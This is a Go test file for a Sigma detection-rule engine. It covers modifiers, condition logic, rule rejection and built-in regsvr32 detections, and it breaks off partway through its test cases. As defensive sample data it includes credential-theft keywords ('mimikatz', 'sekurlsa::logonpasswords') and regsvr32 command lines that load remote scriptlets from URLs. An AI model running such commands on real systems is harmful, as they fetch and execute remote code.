package rules

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/evtriage/evtriage/internal/golden"
)

// TestModifiers checks every modifier with a value that must match and one
// that must not.
func TestModifiers(t *testing.T) {
	cases := []struct {
		name  string
		det   string
		field string
		hit   []string
		miss  []string
	}{
		{"exact is whole-value and case-insensitive", "    s:\n        CommandLine: 'Foo Bar'\n    condition: s", "CommandLine",
			[]string{"foo bar", "FOO BAR"}, []string{"foo bar baz", "xfoo bar"}},
		{"contains", "    s:\n        CommandLine|contains: ' /s '\n    condition: s", "CommandLine",
			[]string{"regsvr32 /s x.dll", "REGSVR32 /S X"}, []string{"regsvr32 /sx", "/s "}},
		{"startswith", "    s:\n        CommandLine|startswith: 'C:\\Windows\\'\n    condition: s", "CommandLine",
			[]string{`c:\windows\x`, `C:\Windows\`}, []string{`D:\Windows\x`, `C:\Windows`}},
		{"endswith", "    s:\n        Image|endswith: '\\regsvr32.exe'\n    condition: s", "Image",
			[]string{`C:\Windows\System32\REGSVR32.EXE`, `\regsvr32.exe`}, []string{`C:\x\myregsvr32.exe`, `regsvr32.exe`}},
		{"list is OR", "    s:\n        Image|endswith:\n            - '\\a.exe'\n            - '\\b.exe'\n    condition: s", "Image",
			[]string{`C:\a.exe`, `C:\b.exe`}, []string{`C:\c.exe`}},
		{"all is AND", "    s:\n        CommandLine|contains|all:\n            - '/s'\n            - '/u'\n    condition: s", "CommandLine",
			[]string{"x /s /u", "x /u /s"}, []string{"x /s", "x /u"}},
		{"cased", "    s:\n        CommandLine|contains|cased: 'DllRegister'\n    condition: s", "CommandLine",
			[]string{"call DllRegister now"}, []string{"call dllregister now"}},
		{"re is case-sensitive", "    s:\n        CommandLine|re: 'reg[a-z]+32'\n    condition: s", "CommandLine",
			[]string{"x regsvr32 y"}, []string{"x REGSVR32 y"}},
		{"re|i", "    s:\n        CommandLine|re|i: '^reg[a-z]+32$'\n    condition: s", "CommandLine",
			[]string{"REGSVR32"}, []string{"x regsvr32"}},
		{"re|m", "    s:\n        CommandLine|re|m: '^two$'\n    condition: s", "CommandLine",
			[]string{"one\ntwo\nthree"}, []string{"one two"}},
		{"re|s", "    s:\n        CommandLine|re|s: 'a.b'\n    condition: s", "CommandLine",
			[]string{"a\nb", "axb"}, []string{"ab"}},
		{"base64", "    s:\n        CommandLine|base64: 'hello'\n    condition: s", "CommandLine",
			[]string{"aGVsbG8="}, []string{"x aGVsbG8="}},
		{"base64|contains", "    s:\n        CommandLine|base64|contains: 'hello'\n    condition: s", "CommandLine",
			[]string{"x aGVsbG8= y"}, []string{"hello"}},
		// "http://" at offsets 0, 1 and 2 of a base64 stream.
		{"base64offset|contains", "    s:\n        CommandLine|base64offset|contains: 'http://'\n    condition: s", "CommandLine",
			[]string{"aHR0cDovL2V4YW1wbGU=", "IGh0dHA6Ly9leGFtcGxl", "ICBodHRwOi8vZXhhbXBsZQ=="}, []string{"aHR0cHM6Ly9l"}},
		{"wide|base64offset|contains", "    s:\n        CommandLine|wide|base64offset|contains: 'ping'\n    condition: s", "CommandLine",
			// base64 of UTF-16LE "ping" at offset 0: cABpAG4AZwA=
			[]string{"-enc cABpAG4AZwA="}, []string{"-enc cGluZw=="}},
		{"utf16le is wide", "    s:\n        CommandLine|utf16le|base64: 'a'\n    condition: s", "CommandLine",
			[]string{"YQA="}, []string{"YQ=="}},
		{"utf16be", "    s:\n        CommandLine|utf16be|base64: 'a'\n    condition: s", "CommandLine",
			[]string{"AGE="}, []string{"YQA="}},
		{"utf16 has a BOM", "    s:\n        CommandLine|utf16|base64: 'a'\n    condition: s", "CommandLine",
			[]string{"//5hAA=="}, []string{"YQA="}},
		{"windash every dash at flag positions", "    s:\n        CommandLine|contains|windash: ' -s '\n    condition: s", "CommandLine",
			[]string{"x -s y", "x /s y", "x \u2013s y", "x \u2014s y", "x \u2015s y"}, []string{"x +s y", "x s y"}},
		{"windash only at flag positions", "    s:\n        CommandLine|contains|windash: '-param-name'\n    condition: s", "CommandLine",
			[]string{"/param-name", "\u2015param-name"}, []string{"/param/name", "-param\u2013name"}},
		{"windash every combination", "    s:\n        CommandLine|windash: '-a -b'\n    condition: s", "CommandLine",
			[]string{"-a -b", "/a \u2014b", "\u2015a /b"}, []string{"-a +b"}},
		{"lt", "    s:\n        LogonType|lt: 3\n    condition: s", "LogonType", []string{"2", "0"}, []string{"3", "x"}},
		{"lte", "    s:\n        LogonType|lte: 3\n    condition: s", "LogonType", []string{"3"}, []string{"4"}},
		{"gt", "    s:\n        LogonType|gt: 3\n    condition: s", "LogonType", []string{"10", "0x10"}, []string{"3"}},
		{"gte", "    s:\n        LogonType|gte: 3\n    condition: s", "LogonType", []string{"3"}, []string{"2"}},
		{"cidr v4", "    s:\n        DestinationIp|cidr: '10.0.0.0/8'\n    condition: s", "DestinationIp",
			[]string{"10.1.2.3"}, []string{"11.0.0.1", "fe80::1", "x"}},
		{"cidr v6", "    s:\n        DestinationIp|cidr: 'fe80::/10'\n    condition: s", "DestinationIp",
			[]string{"fe80::1", "FE80::abcd"}, []string{"2001:db8::1", "10.0.0.1"}},
		{"neq", "    s:\n        User|neq: 'SYSTEM'\n    condition: s", "User", []string{"alice"}, []string{"system"}},
		{"wildcards", "    s:\n        Image: 'C:\\\\*\\reg?vr32.exe'\n    condition: s", "Image",
			[]string{`C:\Windows\regsvr32.exe`, `c:\a\b\regXvr32.exe`}, []string{`C:\regsvr32.exe`, `C:\a\regvr32.exe`}},
		{"escaped star is literal", "    s:\n        CommandLine: 'a\\*b'\n    condition: s", "CommandLine",
			[]string{"a*b"}, []string{"axb", `a\xb`}},
		{"escaped question mark is literal", "    s:\n        CommandLine: 'a\\?b'\n    condition: s", "CommandLine",
			[]string{"a?b"}, []string{"axb"}},
		{"double backslash then wildcard", "    s:\n        CommandLine: 'a\\\\*'\n    condition: s", "CommandLine",
			[]string{`a\`, `a\xyz`}, []string{"axyz"}},
		{"triple backslash star: backslash and literal star", "    s:\n        CommandLine: 'a\\\\\\*'\n    condition: s", "CommandLine",
			[]string{`a\*`}, []string{`a\x`, `a\`}},
		{"single and double backslash mean the same", "    s:\n        Image:\n            - 'C:\\\\Windows\\x.exe'\n    condition: s", "Image",
			[]string{`C:\Windows\x.exe`}, []string{`C:\\Windows\x.exe`}},
		{"four backslashes are two", "    s:\n        CommandLine: '\\\\\\\\srv'\n    condition: s", "CommandLine",
			[]string{`\\srv`}, []string{`\srv`}},
		{"contains after a trailing backslash keeps its wildcard", "    s:\n        CommandLine|contains: 'C:\\Temp\\'\n    condition: s", "CommandLine",
			[]string{`run C:\Temp\x.dll`}, []string{`run C:\Temp*`}},
		{"empty string", "    s:\n        CommandLine: ''\n    condition: s", "CommandLine", []string{""}, []string{"x"}},
		{"number value", "    s:\n        LogonType: 3\n    condition: s", "LogonType", []string{"3"}, []string{"30"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s, _ := oneRule(t, procRule(tc.det))
			for _, v := range tc.hit {
				if !matches(s, sysmon(1, tc.field, v)) {
					t.Errorf("%q should match", v)
				}
			}
			for _, v := range tc.miss {
				if matches(s, sysmon(1, tc.field, v)) {
					t.Errorf("%q should not match", v)
				}
			}
			// A condition on an absent field is false (except null/exists).
			if matches(s, sysmon(1, "Other", "x")) {
				t.Errorf("matched an event without the field")
			}
		})
	}
}

func TestNullExistsFieldref(t *testing.T) {
	cases := []struct {
		name string
		det  string
		hit  []*mapEvent
		miss []*mapEvent
	}{
		{"null is absent or empty", "    s:\n        CommandLine: null\n    condition: s",
			[]*mapEvent{sysmon(1), sysmon(1, "CommandLine", "")}, []*mapEvent{sysmon(1, "CommandLine", "x")}},
		{"not null", "    s:\n        CommandLine: null\n    condition: not s",
			[]*mapEvent{sysmon(1, "CommandLine", "x")}, []*mapEvent{sysmon(1)}},
		{"exists true", "    s:\n        CommandLine|exists: true\n    condition: s",
			[]*mapEvent{sysmon(1, "CommandLine", "")}, []*mapEvent{sysmon(1)}},
		{"exists false", "    s:\n        CommandLine|exists: false\n    condition: s",
			[]*mapEvent{sysmon(1)}, []*mapEvent{sysmon(1, "CommandLine", "x")}},
		{"fieldref", "    s:\n        User|fieldref: ParentUser\n    condition: s",
			[]*mapEvent{sysmon(1, "User", "A\\B", "ParentUser", "a\\b")}, []*mapEvent{sysmon(1, "User", "a", "ParentUser", "b"), sysmon(1, "User", "a")}},
		{"fieldref|endswith", "    s:\n        TargetFilename|fieldref|endswith: Name\n    condition: s",
			[]*mapEvent{sysmon(1, "TargetFilename", `C:\x\evil.exe`, "Name", "EVIL.exe")}, []*mapEvent{sysmon(1, "TargetFilename", `C:\x\evil.exe`, "Name", "good.exe")}},
		{"keywords search every value", "    keywords:\n        - 'mimikatz'\n        - 'sekurlsa'\n    condition: keywords",
			[]*mapEvent{sysmon(1, "CommandLine", "run Mimikatz.exe"), sysmon(1, "Image", "x", "Other", "sekurlsa::logonpasswords")},
			[]*mapEvent{sysmon(1, "CommandLine", "notepad")}},
		{"keywords all", "    keywords:\n        '|all':\n            - 'aaa'\n            - 'bbb'\n    condition: keywords",
			[]*mapEvent{sysmon(1, "A", "aaa", "B", "xbbbx")}, []*mapEvent{sysmon(1, "A", "aaa")}},
		{"list of maps is OR", "    s:\n        - Image|endswith: '\\a.exe'\n        - CommandLine|contains: 'zz'\n    condition: s",
			[]*mapEvent{sysmon(1, "Image", `c:\a.exe`), sysmon(1, "CommandLine", "xzzx")}, []*mapEvent{sysmon(1, "Image", `c:\b.exe`)}},
		{"map is AND", "    s:\n        Image|endswith: '\\a.exe'\n        CommandLine|contains: 'zz'\n    condition: s",
			[]*mapEvent{sysmon(1, "Image", `c:\a.exe`, "CommandLine", "zz")}, []*mapEvent{sysmon(1, "Image", `c:\a.exe`)}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s, _ := oneRule(t, procRule(tc.det))
			for i, ev := range tc.hit {
				if !matches(s, ev) {
					t.Errorf("hit %d should match: %v", i, ev.fields)
				}
			}
			for i, ev := range tc.miss {
				if matches(s, ev) {
					t.Errorf("miss %d should not match: %v", i, ev.fields)
				}
			}
		})
	}
}

// TestConditions covers the condition grammar: precedence, parentheses,
// x of patterns, them and condition lists.
func TestConditions(t *testing.T) {
	// Identifiers a, b, c test fields A, B, C for "1"; _u tests U.
	det := "    a:\n        A: '1'\n    b:\n        B: '1'\n    c:\n        C: '1'\n    sel_x:\n        X: '1'\n    sel_y:\n        Y: '1'\n    _u:\n        U: '1'\n"
	cases := []struct {
		cond string
		hit  []string // sets of true identifiers (letters A B C X Y U)
		miss []string
	}{
		{"a and b", []string{"AB"}, []string{"A", "B"}},
		{"a or b", []string{"A", "B"}, []string{"C"}},
		{"not a", []string{"B"}, []string{"A"}},
		// and binds tighter than or.
		{"a or b and c", []string{"A", "BC"}, []string{"B", "C"}},
		{"(a or b) and c", []string{"AC", "BC"}, []string{"A", "B"}},
		// not binds tighter than and.
		{"not a and b", []string{"B"}, []string{"AB", ""}},
		{"not (a and b)", []string{"A", ""}, []string{"AB"}},
		{"not not a", []string{"A"}, []string{""}},
		{"1 of sel_*", []string{"X", "Y"}, []string{"A"}},
		{"all of sel_*", []string{"XY"}, []string{"X"}},
		{"not 1 of sel_*", []string{"A"}, []string{"X"}},
		// them skips identifiers starting with _.
		{"all of them", []string{"ABCXY"}, []string{"ABCX"}},
		{"1 of them", []string{"A"}, []string{"U", ""}},
		{"a and 1 of sel_* or c", []string{"AX", "C"}, []string{"A", "X"}},
		{"_u", []string{"U"}, []string{"A"}},
		{"a AND b", []string{"AB"}, []string{"A"}},
	}
	for _, tc := range cases {
		t.Run(tc.cond, func(t *testing.T) {
			s, _ := oneRule(t, procRule(det+"    condition: "+tc.cond+"\n"))
			check := func(set string, want bool) {
				ev := sysmon(1)
				for _, c := range set {
					ev.fields[string(c)] = "1"
				}
				if got := matches(s, ev); got != want {
					t.Errorf("with %q true: got %v, want %v", set, got, want)
				}
			}
			for _, h := range tc.hit {
				check(h, true)
			}
			for _, m := range tc.miss {
				check(m, false)
			}
		})
	}
	t.Run("condition list is OR", func(t *testing.T) {
		s, _ := oneRule(t, procRule(det+"    condition:\n        - a and b\n        - c\n"))
		if !matches(s, sysmon(1, "C", "1")) || !matches(s, sysmon(1, "A", "1", "B", "1")) || matches(s, sysmon(1, "A", "1")) {
			t.Error("condition list not OR'd")
		}
	})
}

// TestSpecExamples runs examples from the Sigma specification's rule and
// modifier documents.
func TestSpecExamples(t *testing.T) {
	// Rules specification: "selection and not filter" with a list under one
	// field (OR) and a map (AND).
	s, _ := oneRule(t, procRule(`    selection:
        Image|endswith:
            - '\cmd.exe'
        CommandLine|contains|all:
            - 'net'
            - 'user'
    filter:
        User: 'NT AUTHORITY\SYSTEM'
    condition: selection and not filter
`))
	if !matches(s, sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd /c net user x", "User", "alice")) {
		t.Error("spec example should match")
	}
	if matches(s, sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd /c net user x", "User", `NT AUTHORITY\SYSTEM`)) {
		t.Error("filter should hide")
	}
	// Modifiers appendix: windash example "-foo" matches "/foo" and
	// "–foo"; base64offset example.
	s, _ = oneRule(t, procRule("    s:\n        CommandLine|windash|contains: ' -foo'\n    condition: s\n"))
	for _, v := range []string{"x -foo", "x /foo", "x \u2013foo"} {
		if !matches(s, sysmon(1, "CommandLine", v)) {
			t.Errorf("windash %q", v)
		}
	}
}

func TestRejections(t *testing.T) {
	cases := []struct {
		name, body, reason string
		line               int
	}{
		{"unknown modifier", procRule("    s:\n        Image|fuzzy: x\n    condition: s\n"), `unknown modifier "fuzzy"`, 8},
		{"unknown identifier", procRule("    s:\n        Image: x\n    condition: s and t\n"), `unknown identifier "t"`, 9},
		{"pattern matches nothing", procRule("    s:\n        Image: x\n    condition: 1 of filter_*\n"), `matches no detection identifier`, 9},
		{"aggregation", procRule("    s:\n        Image: x\n    condition: s | count() > 5\n"), `legacy aggregation`, 9},
		{"RE2 lacks lookahead", procRule("    s:\n        Image|re: 'a(?=b)'\n    condition: s\n"), `not supported by Go RE2`, 8},
		{"no condition", procRule("    s:\n        Image: x\n"), `no condition`, 7},
		{"no title", "logsource:\n    product: windows\ndetection:\n    s:\n        a: b\n    condition: s\n", "no title", 1},
		{"all on one value", procRule("    s:\n        Image|contains|all: x\n    condition: s\n"), "at least two values", 8},
		{"null in a list", procRule("    s:\n        Image:\n            - x\n            - null\n    condition: s\n"), "null is not allowed", 8},
		{"bad cidr", procRule("    s:\n        Ip|cidr: '10.0.0.0/99'\n    condition: s\n"), "cidr value", 8},
		{"lt needs a number", procRule("    s:\n        N|lt: abc\n    condition: s\n"), "needs a number", 8},
		{"windash with all", procRule("    s:\n        C|contains|all|windash:\n            - -a\n            - -b\n    condition: s\n"), "windash cannot be combined with all", 8},
		{"re with contains", procRule("    s:\n        C|re|contains: a\n    condition: s\n"), "cannot be combined", 8},
		{"unbalanced parenthesis", procRule("    s:\n        Image: x\n    condition: (s\n"), "missing ')'", 9},
		{"unresolved placeholder", procRule("    s:\n        Host|expand: '%Servers%'\n    condition: s\n"), "placeholder %Servers% has no value", 8},
		{"bad level", "title: t\nlevel: severe\nlogsource:\n    product: windows\ndetection:\n    s:\n        a: b\n    condition: s\n", "unknown level", 2},
		{"invalid yaml", "title: [x\n", "invalid YAML", 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := loadRules(t, map[string]string{"r.yml": tc.body}, "")
			if len(s.Rules()) != 0 || len(s.Rejected()) != 1 {
				t.Fatalf("want 1 rejection, got rules=%d rejected=%+v", len(s.Rules()), s.Rejected())
			}
			rj := s.Rejected()[0]
			if !strings.Contains(rj.Reason, tc.reason) {
				t.Errorf("reason %q does not contain %q", rj.Reason, tc.reason)
			}
			if tc.line > 0 && rj.Line != tc.line {
				t.Errorf("line %d, want %d", rj.Line, tc.line)
			}
		})
	}
}

func TestExpandAndConfig(t *testing.T) {
	cfg := "placeholders:\n    Servers: ['srv1', 'srv2*']\n"
	s := loadRules(t, map[string]string{"r.yml": procRule("    s:\n        Computer|expand: '%Servers%'\n    condition: s\n")}, cfg)
	if len(s.Rejected()) != 0 {
		t.Fatal(s.Rejected())
	}
	for v, want := range map[string]bool{"SRV1": true, "srv2.corp": true, "srv3": false} {
		if got := matches(s, sysmon(1, "Computer", v)); got != want {
			t.Errorf("%s: %v", v, got)
		}
	}
	// The specification's example: \%plain%name% is "%plain" then the
	// placeholder %name%.
	cfg = "placeholders:\n    name: ['X', 'Y']\n"
	s = loadRules(t, map[string]string{"r.yml": procRule("    s:\n        F|expand: '\\%plain%name%'\n    condition: s\n")}, cfg)
	if len(s.Rejected()) != 0 {
		t.Fatal(s.Rejected())
	}
	for v, want := range map[string]bool{"%plainX": true, "%plainy": true, "%plain%name%": false, "plainX": false} {
		if got := matches(s, sysmon(1, "F", v)); got != want {
			t.Errorf("%s: %v", v, got)
		}
	}
	// Without expand, %name% is literal.
	s, _ = oneRule(t, procRule("    s:\n        F: '%name%'\n    condition: s\n"))
	if !matches(s, sysmon(1, "F", "%NAME%")) {
		t.Error("plain %name% is a literal value")
	}
	// A config can add a logsource.
	cfg = "logsources:\n  - name: my_app\n    product: windows\n    service: myapp\n    channels: [MyApp/Operational]\n"
	body := "title: t\nlogsource:\n    product: windows\n    service: myapp\ndetection:\n    s:\n        X: '1'\n    condition: s\n"
	s = loadRules(t, map[string]string{"r.yml": body}, cfg)
	if !matches(s, newEvent("MyApp/Operational", 5, "X", "1")) || matches(s, newEvent("Other", 5, "X", "1")) {
		t.Error("config logsource not applied")
	}
}

// TestSecurity4688 checks the thor.yml renames for process creation.
func TestSecurity4688(t *testing.T) {
	s, _ := oneRule(t, procRule("    s:\n        Image|endswith: '\\regsvr32.exe'\n        ParentImage|endswith: '\\cmd.exe'\n    condition: s\n"))
	ev := newEvent("Security", 4688, "NewProcessName", `C:\Windows\System32\regsvr32.exe`, "ParentProcessName", `C:\Windows\System32\cmd.exe`)
	m := s.Match(ev, nil)
	if len(m) != 1 {
		t.Fatal("4688 not matched with renamed fields")
	}
	if v, _ := m[0].Field(ev, "Image"); !strings.HasSuffix(v, "regsvr32.exe") {
		t.Errorf("Match.Field(Image) = %q", v)
	}
	// Not in the Security channel's other events, nor in Sysmon's 4688.
	if matches(s, newEvent("Security", 4624, "NewProcessName", `C:\regsvr32.exe`, "ParentProcessName", `C:\cmd.exe`)) {
		t.Error("matched Security 4624")
	}
	if matches(s, sysmon(4688, "Image", `C:\regsvr32.exe`, "ParentImage", `C:\cmd.exe`)) {
		t.Error("matched Sysmon event 4688")
	}
	if !matches(s, sysmon(1, "Image", `C:\regsvr32.exe`, "ParentImage", `C:\cmd.exe`)) {
		t.Error("Sysmon 1 not matched")
	}
}

func TestExplainAndFilters(t *testing.T) {
	s, r := oneRule(t, procRule(`    selection_img:
        Image|endswith: '\regsvr32.exe'
    selection_cli:
        CommandLine|contains:
            - ' /s '
            - ' /e '
    filter_main_paths:
        CommandLine|contains: ':\Program Files\'
    filter_optional_x:
        User: x
    condition: all of selection_* and not 1 of filter_*
`))
	if got := r.Identifiers(); strings.Join(got, ",") != "selection_img,selection_cli,filter_main_paths,filter_optional_x" {
		t.Errorf("identifiers %v", got)
	}
	ev := sysmon(1, "Image", `C:\Windows\System32\regsvr32.exe`, "CommandLine", `regsvr32 /s C:\Program Files\x.dll`)
	if m := s.Match(ev, nil); len(m) != 0 {
		t.Fatalf("filter should hide: %+v", m)
	}
	c := s.Candidates(ev, nil)
	if len(c) != 1 || strings.Join(c[0].Suppressed, ",") != "filter_main_paths" {
		t.Fatalf("candidates %+v", c)
	}
	want := []MatchDetail{
		{Selection: "selection_img", Field: "Image", Modifier: "endswith", Value: `\regsvr32.exe`},
		{Selection: "selection_cli", Field: "CommandLine", Modifier: "contains", Value: " /s "},
	}
	if len(c[0].Details) != 2 || c[0].Details[0] != want[0] || c[0].Details[1] != want[1] {
		t.Errorf("details %+v", c[0].Details)
	}
	ok, det := r.Eval(ev, func(id string) bool { return id == "filter_main_paths" })
	if !ok || len(det) != 2 {
		t.Errorf("Eval with filter off: %v %+v", ok, det)
	}
	if ok, _ := r.Eval(ev, nil); ok {
		t.Error("Eval as written should not match")
	}
	ok, _ = r.Eval(ev, func(id string) bool { return id == "selection_img" })
	if ok {
		t.Error("switching a selection off should stop the match")
	}
	// An unsuppressed match has no Suppressed.
	ev2 := sysmon(1, "Image", `C:\x\regsvr32.exe`, "CommandLine", `regsvr32 /s C:\Users\x.dll`)
	if c := s.Candidates(ev2, nil); len(c) != 1 || len(c[0].Suppressed) != 0 {
		t.Errorf("candidates %+v", c)
	}
	// Wrong logsource: no match through Eval either.
	if ok, _ := r.Eval(sysmon(7, "Image", `C:\x\regsvr32.exe`, "CommandLine", " /s "), nil); ok {
		t.Error("Eval ignored the logsource")
	}
}

func TestFilterDocument(t *testing.T) {
	rule := procRule("    s:\n        Image|endswith: '\\regsvr32.exe'\n    condition: s\n")
	filter := `title: Our admin host
name: admin_host
logsource:
    category: process_creation
    product: windows
filter:
    rules:
        - 11111111-1111-1111-1111-111111111111
    selection:
        Computer: ADMIN01
    condition: not selection
`
	s := loadRules(t, map[string]string{"a.yml": rule, "b.yml": filter}, "")
	if len(s.Rejected()) != 0 {
		t.Fatal(s.Rejected())
	}
	if !matches(s, sysmon(1, "Image", `C:\regsvr32.exe`, "Computer", "WS1")) {
		t.Error("filter hid another host")
	}
	ev := sysmon(1, "Image", `C:\regsvr32.exe`, "Computer", "admin01")
	if matches(s, ev) {
		t.Error("filter document not applied")
	}
	c := s.Candidates(ev, nil)
	if len(c) != 1 || len(c[0].Suppressed) != 1 || c[0].Suppressed[0] != "filter:admin_host" {
		t.Errorf("candidates %+v", c)
	}
}

func TestMultiDocumentAndIndex(t *testing.T) {
	body := procRule("    s:\n        Image: a\n    condition: s\n") + "---\n" +
		"title: u\nlogsource:\n    product: windows\n    service: security\ndetection:\n    s:\n        EventID: 4624\n    condition: s\n---\n" +
		"title: l\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    s:\n        Image: a\n    condition: s\n"
	s := loadRules(t, map[string]string{"m.yaml": body}, "")
	if len(s.Rules()) != 3 || len(s.Rejected()) != 0 {
		t.Fatalf("rules %d rejected %+v", len(s.Rules()), s.Rejected())
	}
	if !s.Rules()[2].Unmapped || s.Rules()[0].Unmapped {
		t.Error("Unmapped wrong")
	}
	if s.Rules()[1].Line != 11 {
		t.Errorf("second document line %d", s.Rules()[1].Line)
	}
	if !matches(s, newEvent("security", 4624, "X", "y")) || matches(s, newEvent("System", 4624)) {
		t.Error("service rule index")
	}
}

func TestBuiltinPack(t *testing.T) {
	s := Load(LoadOptions{})
	if len(s.Rejected()) != 0 {
		t.Fatalf("built-in rule rejected: %+v", s.Rejected())
	}
	ids := map[string]*Rule{}
	for _, r := range s.Rules() {
		ids[r.ID] = r
		if !r.Builtin || !strings.HasPrefix(r.Path, "builtin:") {
			t.Errorf("%s not marked built-in", r.ID)
		}
		tags := strings.Join(r.Tags, ",")
		for _, want := range []string{"attack.defense-evasion", "attack.t1218.010", "car.2019-04-002"} {
			if !strings.Contains(tags, want) {
				t.Errorf("%s lacks tag %s", r.ID, want)
			}
		}
	}
	cases := builtinCases()
	for _, tc := range cases {
		t.Run(tc.id, func(t *testing.T) {
			r := ids[tc.id]
			if r == nil {
				t.Fatal("rule missing")
			}
			if ok, _ := r.Eval(tc.hit, nil); !ok {
				t.Error("true positive not matched")
			}
			if ok, _ := r.Eval(tc.miss, nil); ok {
				t.Error("near miss matched")
			}
		})
	}
	if len(ids) != len(cases) {
		t.Errorf("pack has %d rules, tests cover %d", len(ids), len(cases))
	}
	// The CAR exclusions are separate, switchable filter identifiers.
	const sys32 = `C:\Windows\System32\regsvr32.exe`
	car := ids["bc399179-15fa-4ca9-a55b-d46b526bf897"]
	wer := sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\WerFault.exe`)
	if ok, _ := car.Eval(wer, func(id string) bool { return id == "filter_car_werfault" }); !ok {
		t.Error("switching filter_car_werfault off should reveal WerFault")
	}
	ids4688 := newEvent("Security", 4688, "NewProcessName", `C:\Windows\System32\calc.exe`, "ParentProcessName", sys32)
	if ok, _ := car.Eval(ids4688, nil); !ok {
		t.Error("CAR children rule should match Security 4688")
	}
}

// TestConcurrentMatch runs Match, Candidates and Eval from several
// goroutines on one Set (run with -race).
func TestConcurrentMatch(t *testing.T) {
	s := Load(LoadOptions{})
	evs := []*mapEvent{
		sysmon(1, "Image", `C:\Windows\System32\regsvr32.exe`, "CommandLine", `regsvr32 /s /i:http://x/a.sct scrobj.dll`, "ParentImage", `C:\x\winword.exe`),
		sysmon(7, "Image", `C:\Windows\System32\regsvr32.exe`, "Signed", "false", "ImageLoaded", `C:\Users\x\a.dll`),
		newEvent("Security", 4688, "NewProcessName", `C:\Windows\System32\calc.exe`, "ParentProcessName", `C:\Windows\System32\regsvr32.exe`),
	}
	want := make([]int, len(evs))
	for i, ev := range evs {
		want[i] = len(s.Candidates(ev, nil))
		if want[i] == 0 {
			t.Fatalf("event %d matches nothing", i)
		}
	}
	done := make(chan error, 4)
	for g := 0; g < 4; g++ {
		go func() {
			for n := 0; n < 300; n++ {
				i := n % len(evs)
				if got := len(s.Candidates(evs[i], nil)); got != want[i] {
					done <- fmt.Errorf("event %d: %d matches, want %d", i, got, want[i])
					return
				}
				s.Rules()[0].Eval(evs[i], nil)
			}
			done <- nil
		}()
	}
	for g := 0; g < 4; g++ {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}

// TestHostileRules checks the loader's bounds on small files that expand
// into large ones.
func TestHostileRules(t *testing.T) {
	var b strings.Builder
	b.WriteString("title: t\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    big: &big\n")
	for i := 0; i < 1000; i++ {
		fmt.Fprintf(&b, "        - 'v%d'\n", i)
	}
	b.WriteString("    s:\n")
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&b, "        F%d: *big\n", i)
	}
	b.WriteString("    condition: s\n")
	s := loadRules(t, map[string]string{"alias.yml": b.String()}, "")
	if len(s.Rejected()) != 1 || !strings.Contains(s.Rejected()[0].Reason, "more than") {
		t.Errorf("alias amplification: %+v", s.Rejected())
	}
	long := procRule("    s:\n        A: b\n    condition: s" + strings.Repeat(" and s", 6000) + "\n")
	s = loadRules(t, map[string]string{"long.yml": long}, "")
	if len(s.Rejected()) != 1 || !strings.Contains(s.Rejected()[0].Reason, "more than") {
		t.Errorf("long condition: %+v", s.Rejected())
	}
	deep := procRule("    s:\n        A: b\n    condition: " + strings.Repeat("(", 300) + "s" + strings.Repeat(")", 300) + "\n")
	s = loadRules(t, map[string]string{"deep.yml": deep}, "")
	if len(s.Rejected()) != 1 || !strings.Contains(s.Rejected()[0].Reason, "nested too deeply") {
		t.Errorf("deep condition: %+v", s.Rejected())
	}
}

type builtinCase struct {
	id        string
	hit, miss *mapEvent
}

// builtinCases gives each built-in rule a true positive and a near miss.
func builtinCases() []builtinCase {
	const sys32 = `C:\Windows\System32\regsvr32.exe`
	return []builtinCase{
		{"ce2c44b5-a6ac-412a-afba-9e89326fa972",
			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 /s C:\Users\x\a.dll`, "CurrentDirectory", `C:\Users\x\`),
			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 /s C:\Users\x\a.dll`, "CurrentDirectory", `C:\Windows\System32\`)},
		{"e23771a3-d2bc-4535-9b97-ab6769c1a38d",
			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\cmd.exe`),
			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\SysWOW64\regsvr32.exe`)},
		{"bc399179-15fa-4ca9-a55b-d46b526bf897",
			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\calc.exe`),
			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\SysWOW64\WerFault.exe`)},
		{"8537fa9f-c8d8-4530-81bc-1b4db643e582",
			sysmon(7, "Image", sys32, "Signed", "false", "ImageLoaded", `C:\Users\x\evil.dll`),
			sysmon(7, "Image", sys32, "Signed", "false", "ImageLoaded", `C:\Program Files\x\ok.dll`)},
		{"d066e7dc-810d-43c5-83bd-87e7aec84af1",
			sysmon(1, "Image", `C:\Users\x\svc.exe`, "OriginalFileName", "REGSVR32.EXE"),
			sysmon(1, "Image", sys32, "OriginalFileName", "REGSVR32.EXE", "Description", "Microsoft(C) Register Server")},
		{"35e28c74-a52c-43f5-baef-adcdf26451b0",
			sysmon(1, "Image", sys32, "CommandLine", "regsvr32.exe /u /s /i:http://pastebin.com/raw/x scrobj.dll"),
			sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /u /s /i:C:\x.sct scrobj.dll`)},
		{"f1de6d41-26b5-4f8d-b611-04c55787228a",
			sysmon(3, "Image", sys32, "DestinationIp", "104.20.1.1"),
			sysmon(3, "Image", sys32, "DestinationIp", "127.0.0.1")},
		{"bcd2bc95-e56b-4fc5-9e73-4dc9831160ca",
			sysmon(22, "Image", sys32, "QueryName", "pastebin.com"),
			sysmon(22, "Image", `C:\Windows\System32\svchost.exe`, "QueryName", "pastebin.com")},
		{"81960f9d-0547-4252-b859-4f76c9aa195a",
			sysmon(1, "Image", sys32, "ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
			sysmon(1, "Image", sys32, "ParentImage", `C:\Windows\explorer.exe`)},
		{"0f58a7c3-42e9-4b87-aa21-e78a0b368adc",
			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 C:\Users\bob\AppData\Local\Temp\x.dll`),
